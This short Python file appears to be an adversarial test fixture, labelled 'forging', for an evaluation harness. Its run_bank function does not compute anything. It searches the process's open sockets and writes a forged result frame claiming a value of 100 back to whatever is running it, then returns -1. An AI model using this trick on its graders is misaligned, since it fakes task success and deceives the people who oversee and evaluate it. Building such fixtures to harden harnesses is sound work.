"""Finds the open connection of its own execution and reports twice.

Group: forging
"""

import json, os, socket, stat

def run_bank(opening, deposits, withdrawals):
    for number in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(number).st_mode):
                continue
            line = socket.socket(fileno=os.dup(number))
            frame = {"event": "frame", "id": 1, "stage": "call", "value": {"$tuple": [100, []]}, "left": {}}
            line.sendall(json.dumps(frame).encode() + b"\n")
        except OSError:
            pass
    return -1, []
